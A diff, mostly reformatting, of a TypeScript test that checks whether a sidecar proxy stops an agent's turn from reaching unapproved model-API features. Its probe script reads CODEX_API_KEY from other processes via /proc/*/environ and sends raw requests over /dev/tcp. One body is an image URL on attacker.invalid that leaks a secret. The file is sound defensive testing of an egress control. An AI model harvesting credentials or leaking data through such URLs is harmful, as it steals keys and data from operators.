@@ -26,7 +26,7 @@ const PROBES = [
   "KEY=$(for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < \"$f\" 2>/dev/null; done | sed -n 's/^CODEX_API_KEY=//p' | grep '^alive-turn-' | head -n1)",
   'echo "KEY ${KEY:0:11}"',
   "mp() (",
-  '  label=$1; method=$2; path=$3; body=$4; shift 4',
+  "  label=$1; method=$2; path=$3; body=$4; shift 4",
   '  exec 3<>/dev/tcp/127.0.0.1/3129 || { echo "MP $label status=noconnect"; exit 0; }',
   '  extra=""; for h in "$@"; do extra="$extra$h\\r\\n"; done',
   '  printf "%s %s HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\nAuthorization: Bearer %s\\r\\nContent-Type: application/json\\r\\nContent-Length: %d\\r\\n%bConnection: close\\r\\n\\r\\n%s" "$method" "$path" "$KEY" "${#body}" "$extra" "$body" >&3',
@@ -37,8 +37,26 @@ const PROBES = [
   ")",
 ].join("\n");
 
-const IMAGE_URL_BODY = JSON.stringify({ model: "gpt-5.5", stream: true, input: [{ type: "message", role: "user", content: [{ type: "input_text", text: "tenant-image" }, { type: "input_image", image_url: "https://attacker.invalid/leak.png?d=secret" }] }] });
-const WEB_SEARCH_BODY = JSON.stringify({ model: "gpt-5.5", stream: true, input: "tenant-search", tools: [{ type: "web_search" }] });
+const IMAGE_URL_BODY = JSON.stringify({
+  model: "gpt-5.5",
+  stream: true,
+  input: [
+    {
+      type: "message",
+      role: "user",
+      content: [
+        { type: "input_text", text: "tenant-image" },
+        { type: "input_image", image_url: "https://attacker.invalid/leak.png?d=secret" },
+      ],
+    },
+  ],
+});
+const WEB_SEARCH_BODY = JSON.stringify({
+  model: "gpt-5.5",
+  stream: true,
+  input: "tenant-search",
+  tools: [{ type: "web_search" }],
+});
 const HEADERS_BODY = JSON.stringify({ model: "gpt-5.5", stream: true, input: "tenant-headers-probe" });
 
 const COMMAND = [
@@ -77,7 +95,10 @@ describe("the model proxy relays only what codex needs, through a real turn", ()
 
   before(async () => {
     stub = await ResponsesStub.start({ host: "127.0.0.1" });
-    t = await startTestSidecar({ stub, flags: { "--openai-organization": "org-operator", "--openai-project": "proj_operator" } });
+    t = await startTestSidecar({
+      stub,
+      flags: { "--openai-organization": "org-operator", "--openai-project": "proj_operator" },
+    });
   });
   after(async () => {
     await t?.cleanup();
@@ -90,7 +111,14 @@ describe("the model proxy relays only what codex needs, through a real turn", ()
     await t.sidecar.service.ensureWorkspace(ws);
     // The command's own allowed POST /v1/responses, and codex's last request, get the stub's default "ok".
     stub.script(commandStep(COMMAND));
-    const result = await withTimeout(t.sidecar.service.runTurn({ workspaceId: ws.workspaceId, input: "run the probes", options: { timeoutMs: TURN_TIMEOUT_MS } }, { onEvent: () => undefined }), TURN_TIMEOUT_MS + 10_000, "the turn");
+    const result = await withTimeout(
+      t.sidecar.service.runTurn(
+        { workspaceId: ws.workspaceId, input: "run the probes", options: { timeoutMs: TURN_TIMEOUT_MS } },
+        { onEvent: () => undefined },
+      ),
+      TURN_TIMEOUT_MS + 10_000,
+      "the turn",
+    );
     assert.equal(result.status, "completed", JSON.stringify(result.error));
     const output = commandOutput(result);
     assert.match(output, /^KEY alive-turn-$/m, "the command found the turn's credential");
@@ -104,15 +132,31 @@ describe("the model proxy relays only what codex needs, through a real turn", ()
     assert.deepEqual(probe(output, "headers"), { status: "200", refused: "none" });
 
     // What the model API saw.
-    assert.deepEqual(stub.otherRequests.map((r) => `${r.method} ${r.path}`), [], "no files, deletions or chat completions");
+    assert.deepEqual(
+      stub.otherRequests.map((r) => `${r.method} ${r.path}`),
+      [],
+      "no files, deletions or chat completions",
+    );
     // Judged on the requests' structure: codex's own later requests carry the command's text (with
     // these bodies in it) as the function call's arguments, which is fine.
-    const imageParts = stub.requests.flatMap((r) => (Array.isArray(r.body?.input) ? (r.body.input as Array<{ content?: unknown }>) : []).flatMap((item) => (Array.isArray(item.content) ? (item.content as Array<{ type?: string; image_url?: string }>) : [])).filter((part) => part.type === "input_image"));
+    const imageParts = stub.requests.flatMap((r) =>
+      (Array.isArray(r.body?.input) ? (r.body.input as Array<{ content?: unknown }>) : [])
+        .flatMap((item) =>
+          Array.isArray(item.content) ? (item.content as Array<{ type?: string; image_url?: string }>) : [],
+        )
+        .filter((part) => part.type === "input_image"),
+    );
     assert.deepEqual(imageParts, [], "no request with an input_image reached the model API");
-    assert.ok(!stub.requests.some((r) => r.body?.input === "tenant-search"), "the web_search request never reached the model API");
+    assert.ok(
+      !stub.requests.some((r) => r.body?.input === "tenant-search"),
+      "the web_search request never reached the model API",
+    );
     for (const request of stub.requests) {
       const tools = (request.body?.tools ?? []) as Array<{ type?: string }>;
-      assert.ok(!tools.some((tool) => String(tool.type).startsWith("web_search")), "codex itself sent no web_search tool");
+      assert.ok(
+        !tools.some((tool) => String(tool.type).startsWith("web_search")),
+        "codex itself sent no web_search tool",
+      );
       assert.equal(request.headers["openai-organization"], "org-operator");
       assert.equal(request.headers["openai-project"], "proj_operator");
     }
@@ -122,6 +166,10 @@ describe("the model proxy relays only what codex needs, through a real turn", ()
 
     const refusals = t.logLines.filter((line) => line.includes("model proxy: request refused"));
     assert.ok(refusals.some((line) => line.includes('"reason":"path"')));
-    assert.equal(refusals.filter((line) => line.includes('"reason":"path"')).length, 1, "logged once per workspace and reason");
+    assert.equal(
+      refusals.filter((line) => line.includes('"reason":"path"')).length,
+      1,
+      "logged once per workspace and reason",
+    );
   });
 });
